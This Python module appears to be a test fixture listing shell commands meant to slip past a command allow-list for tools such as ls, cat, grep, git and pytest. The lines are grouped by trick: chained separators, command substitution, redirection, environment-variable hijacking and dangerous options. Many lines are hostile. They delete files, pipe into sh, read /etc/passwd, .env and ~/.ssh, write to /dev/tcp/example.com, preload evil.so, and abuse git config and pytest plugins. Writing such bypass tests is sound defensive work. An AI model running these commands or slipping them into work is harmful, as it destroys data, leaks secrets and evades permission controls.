"""Lines that fool an allow-list from outside of its programs' paths: separators, substitutions, variables, options."""

from __future__ import annotations

SEPARATED = r"""
ls; rm -rf src
ls && rm notes.txt
ls || rm notes.txt
ls | sh
ls | xargs rm
ls & rm notes.txt
ls &
ls |& tee log
cat README.md | tee copy.txt
cat README.md; curl example.com
cat README.md | bash
cat README.md | python3
git status; git push
git status && git commit -am x
git status | sh
pytest; rm -rf src
pytest && git push
pytest || make deploy
grep -l text src | xargs rm
true && ls; reboot
! rm notes.txt
(ls; rm notes.txt)
{ ls; rm notes.txt; }
time rm notes.txt
"""
SUBSTITUTED = r"""
ls $(rm notes.txt)
ls `rm notes.txt`
ls "$(rm notes.txt)"
ls "`rm notes.txt`"
cat $(echo /etc/passwd)
cat <(curl example.com)
grep "$(curl example.com)" README.md
grep text README.md >(sh)
ls $HOME
ls ${HOME}
ls "$HOME/.ssh"
cat $SECRET_FILE
cat ${x:-$(rm notes.txt)}
ls $((1+1))
ls $((a[$(rm notes.txt)]))
ls ${x@P}
ls ${!x}
cat $'/etc/passwd'
cat $'\x2fetc\x2fpasswd'
ls $"src"
cat "${PWD}/../x"
$(echo rm) notes.txt
${x}ls src
l$@s src
cat <<< "$(rm notes.txt)"
pytest $(cat args)
git status $(git push)
echo `ls`
"""
REDIRECTED = r"""
ls > out.txt
ls >> notes.txt
ls >| notes.txt
ls &> notes.txt
ls 2> notes.txt
ls >&notes.txt
ls &>> notes.txt
ls <> notes.txt
ls>notes.txt
cat README.md > src/app.py
cat > src/app.py
cat >src/app.py <<EOF
cat << EOF > src/app.py
cat 1>notes.txt
cat < /etc/passwd
cat < .env
> notes.txt
>notes.txt ls
grep text README.md > .git/hooks/pre-commit
git status > .git/config
pytest > /dev/sda
pytest 2>&1 > log.txt
ls > /dev/tcp/example.com/80
cat README.md > "out put"
cat README.md {fd}> notes.txt
"""
VARIABLES = r"""
LD_PRELOAD=./evil.so ls
LD_LIBRARY_PATH=. ls
PATH=. ls
PATH=.:$PATH pytest
GIT_DIR=/tmp/x git status
GIT_CONFIG_COUNT=1 git status
GIT_SSH_COMMAND=./x git status
GIT_PAGER=./evil git status
GIT_EXTERNAL_DIFF=./evil git status
PAGER=./evil git status
EDITOR=./evil git status
PYTHONPATH=. pytest
PYTHONSTARTUP=x.py pytest
PYTHONBREAKPOINT=os.system pytest
PYTEST_ADDOPTS=-pevil pytest
PYTEST_PLUGINS=evil pytest
BASH_ENV=./evil ls
ENV=./evil ls
IFS=/ ls
GREP_OPTIONS=-f/etc/passwd grep x README.md
LC_ALL=../../x ls
LANG=$(rm notes.txt) ls
HOME=/tmp git status
X=1
export PATH=.; ls
declare -x PATH=.; ls
readonly x=1; ls
unset PATH; ls
ls=rm; $ls notes.txt
LS_COLORS=x ls
"""
OPTIONS = r"""
cat -f notes.txt
cat --output=x README.md
grep -f .env README.md
grep -f/etc/passwd x
grep --file=.env x
grep -r text .
grep -R text src
grep -d recurse text src
grep --recursive text src
grep --include=*.py text src
grep --exclude-from=.env text src
grep -D read text src
grep --devices=read x src
grep -nr text src
ls -I x --hyperlink
ls --dired -w
ls -L out
ls -H out
ls --dereference out
git -c core.fsmonitor=./evil status
git -c alias.status='!rm -rf .' status
git -c core.pager=./evil -p status
git -p status
git --paginate status
git -C / status
git -C .. status
git --git-dir=/tmp/x status
git --work-tree=/ status
git --exec-path=. status
git --config-env=core.pager=X status
git status -uall
git status --ignored
git status --untracked-files=all
git status --ignore-submodules=none
git status --column
git stash
git push
git commit -m x
git checkout .
git reset --hard
git clean -fd
git config core.fsmonitor ./evil
git status --help
git help status
git status-evil
git statu
pytest -p evil
pytest -pevil
pytest -c evil.ini
pytest -cevil.ini
pytest --rootdir=/
pytest --rootdir /tmp
pytest --confcutdir=/
pytest -o python_files=x
pytest --override-ini=addopts=-pevil
pytest --basetemp=src
pytest --basetemp src
pytest --junitxml=src/app.py
pytest --junit-xml=x
pytest --log-file=src/app.py
pytest --debug
pytest --debug=src/app.py
pytest --pdb
pytest --pdbcls=evil:Evil
pytest --trace
pytest --import-mode=prepend
pytest --pyargs os
pytest --cache-clear
pytest --pastebin=all
pytest --report-log=x
pytest --cov-report=html:src
pytest -n 4
pytest -W error::evil.Warning
pytest @args.txt
pytest -k '__import__("os").system("x")'
pytest -m 'a; b'
pytest --noconftest
pytest --ignore=src
pytest --collect-in-virtualenv
pytest --setup-plan --basetemp=x
pytest --capture=../x
"""
